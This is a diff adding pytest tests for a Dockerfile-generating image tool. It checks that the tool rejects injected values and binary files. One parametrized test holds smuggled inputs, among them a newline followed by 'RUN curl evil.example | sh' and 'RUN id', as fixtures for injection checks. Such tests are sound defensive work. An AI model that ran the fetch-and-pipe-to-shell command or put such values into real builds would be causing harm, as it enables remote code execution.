@@ -268,3 +268,33 @@ def test_sizes_backend_ai_accepts(size):
 
 def test_library_defaults_match_invoke_yaml():
     assert imaging.Resources(**DEFAULTS["resources"]) == imaging.Resources()
+
+
+@pytest.mark.parametrize("flags, message", [
+    (["--base", "nvcr.io/nvidia/pytorch:25.01-py3\nRUN curl evil.example | sh"], "--base"),
+    (["--base", "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime", "--python", "/usr/bin/python3\nRUN id"],
+     "--python"),
+    (["--base", "example/base:1", "--distro", "ubuntu22.04 \\"], "--distro"),
+])
+def test_values_that_would_inject_dockerfile_lines_are_one_error_line(tmp_path, flags, message):
+    proc = run_invoke(["image", *flags, "--output", str(tmp_path / "ctx")])
+    lines = proc.stderr.strip().splitlines()
+    assert proc.returncode == 1 and len(lines) == 1 and lines[0].startswith(f"error: {message} ")
+    assert not (tmp_path / "ctx").exists()
+
+
+def test_check_takes_docker_variable_defaults_and_refuses_binary_files(tmp_path):
+    dockerfile = tmp_path / "Dockerfile"
+    ctx = tmp_path / "ctx"
+    run_invoke(["image", "--output", str(ctx)], check=True)
+    text = (ctx / "Dockerfile").read_text().replace('ai.backend.resource.min.cpu="4"',
+                                                    'ai.backend.resource.min.cpu="${CPUS:-4}"')
+    assert "${CPUS:-4}" in text
+    dockerfile.write_text(text)
+    ok = run_invoke(["image", "--check", str(dockerfile)])
+    assert ok.returncode == 0 and ok.stdout.startswith("ok: "), ok.stdout + ok.stderr
+    dockerfile.write_text(text.replace("${CPUS:-4}", "${CPUS:+0}"))  # empty when CPUS is unset: a problem
+    assert run_invoke(["image", "--check", str(dockerfile)]).returncode == 1
+    dockerfile.write_bytes(bytes(range(256)) * 4)
+    proc = run_invoke(["image", "--check", str(dockerfile)])
+    assert proc.returncode == 1 and "is not a text file" in proc.stderr and "Traceback" not in proc.stderr
